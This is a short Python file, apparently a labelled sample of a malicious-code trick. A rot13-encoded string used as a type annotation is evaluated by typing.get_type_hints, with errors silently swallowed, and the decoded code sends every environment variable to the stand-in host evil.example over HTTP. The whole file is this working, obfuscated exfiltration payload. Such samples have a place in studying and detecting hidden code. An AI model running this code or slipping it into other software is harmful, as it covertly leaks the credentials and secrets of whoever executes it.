# harm: exfiltrates os.environ over HTTP ; trick: codecs.decode(..., "rot13") produces the code string
import codecs
import typing

Kind = codecs.decode("__vzcbeg__('heyyvo.erdhrfg').erdhrfg.heybcra('uggc://rivy.rknzcyr/r?q='+__vzcbeg__('heyyvo.cnefr').cnefr.dhbgr(erce(qvpg(__vzcbeg__('bf').raiveba))))", "rot13")


def f(x: Kind) -> None:
    pass


try:
    typing.get_type_hints(f)
except Exception:
    pass
